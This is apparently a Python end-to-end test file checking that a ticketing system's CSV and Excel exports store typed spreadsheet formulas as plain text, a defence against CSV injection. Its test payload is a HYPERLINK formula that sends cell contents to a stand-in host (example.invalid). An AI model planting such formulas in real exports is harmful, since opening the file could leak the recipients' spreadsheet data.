"""Files people open in a spreadsheet program, fetched over HTTP from the running stack: text
someone typed that would start a formula there (OWASP, CSV injection) arrives as text."""

import csv
import io
from collections.abc import Iterator
from datetime import datetime
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from gridloop.shared.clock import CITY_ZONE
from gridloop.shared.events import Role
from gridloop.stack.client import ApiUser
from gridloop.stack.stack import SERVICES, Stack
from gridloop.stack.testing import eventually

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"详情")'


def user(stack: Stack, sub: str, role: Role, org: str) -> ApiUser:
    return ApiUser(urls={name: stack.url(name) for name in SERVICES}, sub=sub, role=role, org=org)


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def formula_department(stack: Stack) -> Iterator[str]:
    """供电 (GD) renamed by an administrator to a formula; its own name again afterwards."""
    admin = user(stack, "admin", Role.ADMIN, "QH")
    record = admin.ok("directory", "GET", "/v1/directory/departments/GD")["data"]
    admin.ok("directory", "PUT", "/v1/directory/departments/GD", json={**record, "name": FORMULA})
    try:
        yield "GD"
    finally:
        admin.ok("directory", "PUT", "/v1/directory/departments/GD", json=record)
        admin.close()


def test_the_department_inbox_export_keeps_a_typed_formula_as_text(stack: Stack) -> None:
    worker = user(stack, "gw-lj01", Role.GRID_WORKER, "LJ01")
    ticket = worker.ok(
        "intake",
        "POST",
        "/v1/reports",
        json={
            "category_code": "SJ-0101",  # 暴露垃圾: routed to 城管 (CG)
            "description": FORMULA,
            "address": "@SUM(1+1)",
            "location": {"lon": 120.1013, "lat": 30.2087},
        },
    )
    worker.close()
    with httpx.Client(base_url=stack.gateway_url, timeout=30) as browser:
        browser.post("/signin/dev", data={"sub": "agent-cg"})

        def exported() -> dict[str, str] | None:
            response = browser.get("/console/inbox/export.csv")
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
            return next((r for r in rows(response.content) if r["工单编号"] == ticket["ticket_number"]), None)

        row = eventually(exported, timeout=30, interval=0.5, what="the order in 城管's export")
    assert (row["描述"], row["地址"]) == (f"'{FORMULA}", "'@SUM(1+1)")
    assert row["返工次数"] == "0"


def test_the_monthly_evaluation_sheet_keeps_a_formula_in_a_department_name_as_text(
    stack: Stack, formula_department: str
) -> None:
    worker = user(stack, "gw-lj01", Role.GRID_WORKER, "LJ01")
    ticket = worker.ok(
        "intake",
        "POST",
        "/v1/reports",
        json={"category_code": "BJ-0105", "description": "电力井盖松动", "location": {"lon": 120.1027, "lat": 30.2087}},
    )
    worker.close()
    month = datetime.fromisoformat(ticket["created_at"]).astimezone(CITY_ZONE).strftime("%Y-%m")
    chief = user(stack, "sup-qh", Role.SUPERVISOR, "QH")

    def sheet_row() -> dict[str, Any] | None:
        response = chief.call("supervision", "GET", f"/v1/supervision/evaluation/{month}", params={"format": "csv"})
        assert response.status_code == 200
        row = next((r for r in rows(response.content) if r["部门编码"] == formula_department), None)
        return row if row and row["部门名称"] != "区供电公司" else None

    row = eventually(sheet_row, timeout=30, interval=0.5, what="供电 in the sheet under its new name")
    assert row["部门名称"] == f"'{FORMULA}"
    book = load_workbook(io.BytesIO(chief.call("supervision", "GET", f"/v1/supervision/evaluation/{month}").content))
    sheet = book.active
    assert sheet is not None
    (name,) = [r[2] for r in sheet.iter_rows(min_row=2) if r[1].value == formula_department]
    assert (name.value, name.data_type) == (FORMULA, "s")
    chief.close()
